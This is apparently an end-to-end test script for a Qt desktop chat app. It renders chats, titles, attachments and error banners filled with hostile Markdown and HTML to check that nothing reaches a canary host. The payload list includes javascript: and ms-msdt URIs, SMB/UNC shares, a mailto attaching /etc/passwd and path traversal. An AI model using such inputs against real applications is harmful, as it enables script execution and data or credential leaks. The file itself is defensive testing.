"""A process of its own for `test_hostile_text`: the window with chats that want files and hosts.

`python -m tests.e2e.hostile_window FOLDER [control]`: prints how many messages were on
show. With `control` a plain label of Qt shows the same, so that whoever watches sees something.
"""

import sys
from pathlib import Path

from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLabel

from desktop.base.paths import paths_under
from desktop.config.store import SettingsStore
from desktop.domain.chat import Role
from desktop.domain.errors import OutOfMemory
from desktop.domain.history import Attachment, AttachmentKind
from desktop.domain.settings import Theme
from desktop.domain.text import Text
from desktop.store.chats import ChatStore
from desktop.ui.banner import Topic
from desktop.ui.bridge import Bridge
from desktop.ui.chat_controller import ChatController
from desktop.ui.own_settings import OwnSettings
from desktop.ui.preferences import Preferences
from desktop.ui.theme import apply_theme
from desktop.ui.typesetter import typesetter
from desktop.ui.window import MainWindow
from desktop.ui.window_controller import WindowController

CANARY = "canary-host.example"
_SCHEMES = (
    *("javascript:alert(1)", "data:text/html,x", "vbscript:x", "ms-msdt:/id", "qrc:/x.png"),
    *(f"smb://{CANARY}/s", f"file://{CANARY}/share/x.png", f"//{CANARY}/x.png"),
    *(f"\\\\{CANARY}\\share\\x.png", f"https://{CANARY}/x.png", f"http://u:p@{CANARY}/"),
    *(f"mailto:a@{CANARY}?attach=/etc/passwd", "https://xn--e1awd7f.example/", "../../etc/x.png"),
)


def hostile() -> str:
    """Return Markdown that wants to be more than text, in every way that is known."""
    lines = []
    for address in _SCHEMES:
        lines += [
            f"![a]({address}) [b]({address}) <{address}> {address}",
            f'<img src="{address}"><link rel="stylesheet" href="{address}">',
            f'<table background="{address}"><tr><td background="{address}">x</td></tr></table>',
            f"<ul style=\"list-style-image:url('{address}')\"><li>x</li></ul>",
            f'<body background="{address}"><iframe src="{address}"></iframe>',
            f"| ![a]({address}) |\n|---|\n| <img src='{address}'> |",
            f"$\\includegraphics{{{address}}}$ [^1]\n\n[^1]: ![n]({address})",
            f'```html\n<img src="{address}">\n```',
        ]
    return "\n\n".join(lines)


def main() -> None:
    """Show everything, and say how much of it was shown."""
    folder, control = Path(sys.argv[1]), "control" in sys.argv[2:]
    paths = paths_under(folder)
    paths.database.parent.mkdir(parents=True)
    tag = f'<img src="file://{CANARY}/share/x.png">'
    app = QApplication([])
    apply_theme(app, Theme.LIGHT)
    store = ChatStore.open(paths.database)
    shelf = store.add_folder(f"Folder {tag}")
    chat = store.create(f"Title {tag}", folder=shelf.id).id
    names = Attachment(AttachmentKind.FILE, f"name {tag}.txt", hostile())
    parent = None
    for _ in range(3):
        asked = store.add(chat, parent, Role.USER, hostile(), attachments=(names,))
        answer = store.add(chat, asked.id, Role.ASSISTANT, hostile(), model=f"model {tag}")
        parent = answer.id
    preferences = Preferences(SettingsStore(paths.settings))
    bridge, own = Bridge(), OwnSettings()
    chats = ChatController(store, preferences, own, bridge)
    window = MainWindow()
    desk = WindowController(window, store, chats, preferences)
    window.resize(1000, 700)
    window.show()
    desk.open_chat(chat)
    error = OutOfMemory(Text("Title {name}", {"name": tag}), Text("Hint {name}", {"name": tag}))
    window.banner.show_error(Topic.MODEL_LOADING, error)
    window.toast.offer_undo(Text("“{title}” is deleted", {"title": tag}), 1)
    window.composer.set_draft(tag)
    window.composer.attach(names)
    if control:
        plain = QLabel(tag, window)
        plain.show()
        plain.grab()
    QTest.qWait(1500)
    seen: set[int] = set()
    for one in store.refs(chat):
        window.transcript.show_message(one.id)
        QTest.qWait(200)
        seen |= {frame.message for frame in window.transcript.frames_built()}
    desk.list.start_search()
    window.sidebar.search.setText("canary")
    QTest.qWait(800)
    window.transcript.open_find()
    window.grab()
    print(f"shown {len(seen)}")
    window.hide()
    desk.close()
    chats.close()
    typesetter().close()
    store.close()


if __name__ == "__main__":
    main()
